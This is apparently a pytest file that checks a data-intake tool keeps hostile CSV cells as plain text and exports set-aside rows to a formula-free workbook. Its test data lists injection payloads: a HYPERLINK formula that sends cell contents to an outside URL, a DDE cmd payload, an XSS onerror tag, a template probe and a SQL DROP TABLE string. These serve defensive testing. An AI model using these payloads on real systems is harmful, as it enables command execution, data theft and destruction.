"""Cells that attack: they come through as text or as findings, and nothing reopened from them is a formula."""

import openpyxl
import pytest

from bsnskit.store.set_aside import workbook_of_rows
from tests.intake.builders import blocking, facts, list_of, read, rules, write

FORMULA = '=HYPERLINK("https://example.org/?q="&A1,"open")'
HOSTILE = [FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1)", "<img src=x onerror=alert(1)>", "{{7*7}}", "'; DROP TABLE x; --"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_hostile_wording_is_text(tmp_path, cell):
    quoted = cell.replace('"', '""')
    delivery = read(write(tmp_path, f'N°;Motif de contact\n1;"{quoted}"\n'), "reasons")
    assert blocking(delivery) == []
    assert delivery.judgements[0].body["label"] == cell


def test_a_hostile_id_is_text_and_its_finding_too(tmp_path):
    text = f'N° contact;Date;Motif;Canal\n"{FORMULA.replace(chr(34), chr(34) * 2)}";13/01/2020;2.10;appel\n'
    delivery = read(write(tmp_path, text), "contacts", reasons=list_of("2.10"))
    assert delivery.table["contact_id"].tolist() == [FORMULA]


def test_nul_and_control_characters_are_left_out_and_said(tmp_path):
    delivery = read(write(tmp_path, "N°;Motif de contact\n1;a\x00b\x1bc\n"), "reasons")
    assert rules(delivery) == ["unprintable"]
    assert delivery.judgements[0].body["label"] == "abc"


def test_direction_marks_in_ids_are_left_out_and_said(tmp_path):
    text = "N° contact;Date;Motif;Canal\nc1;13/01/2020;\u200f2.10\u202e;appel\nc2;13/01/2020;2.10;appel\n"
    delivery = read(write(tmp_path, text), "contacts", reasons=list_of("2.10"))
    assert delivery.table["reason_id"].tolist() == ["2.10", "2.10"]
    assert rules(delivery) == ["invisible"]


def test_forty_thousand_characters_are_a_finding_that_does_not_repeat_them(tmp_path):
    delivery = read(write(tmp_path, f"N°;Motif de contact\n1;{'é' * 40_000}\n"), "reasons")
    assert blocking(delivery) == ["too_long"]
    assert len(facts(delivery)) < 1000
    verbatim = f"Date;Motif;Canal;Description\n13/01/2020;2.10;appel;{'x' * 40_000}\n"
    log = read(write(tmp_path, verbatim), "contacts", reasons=list_of("2.10"))
    assert log.rows_accepted == 1
    assert "free_text" in rules(log)


def test_a_lone_surrogate_is_damage_not_a_crash(tmp_path):
    content = "N°;Motif de contact\n1;é à ".encode() + b"\xed\xa0\x80\n"
    delivery = read(write(tmp_path, content), "reasons")
    assert rules(delivery) == ["encoding_damaged"]
    assert delivery.judgements[0].body["label"] == "é à \ufffd"


def test_the_workbook_of_rows_set_aside_holds_no_formula_and_opens(tmp_path):
    quoted = FORMULA.replace('"', '""')
    head = "N° contact;Date;Motif;Canal\n"
    text = f'{head}"{quoted}";;2.10;appel\n"{"y" * 40_000}";;2.10;appel\nc2;13/01/2020;2.10;appel\n'
    delivery = read(write(tmp_path, text), "contacts", reasons=list_of("2.10"))
    assert delivery.rows_set_aside == 2
    path = write(tmp_path, workbook_of_rows(delivery.set_aside, "fr"), "aside.xlsx")
    sheet = openpyxl.load_workbook(path).active
    assert [cell.value for cell in sheet[1]][3:] == ["N° contact", "Date", "Motif", "Canal"]
    assert sheet["D2"].value == FORMULA
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
    assert all(cell.hyperlink is None for row in sheet.iter_rows() for cell in row)
    assert len(sheet["D3"].value) == 32_000


def test_the_same_rows_give_the_same_workbook(tmp_path):
    delivery = read(write(tmp_path, "Date;Motif;Canal\n;2.10;appel\n13/01/2020;2.10;appel\n"), "contacts")
    assert workbook_of_rows(delivery.set_aside, "fr") == workbook_of_rows(delivery.set_aside, "fr")
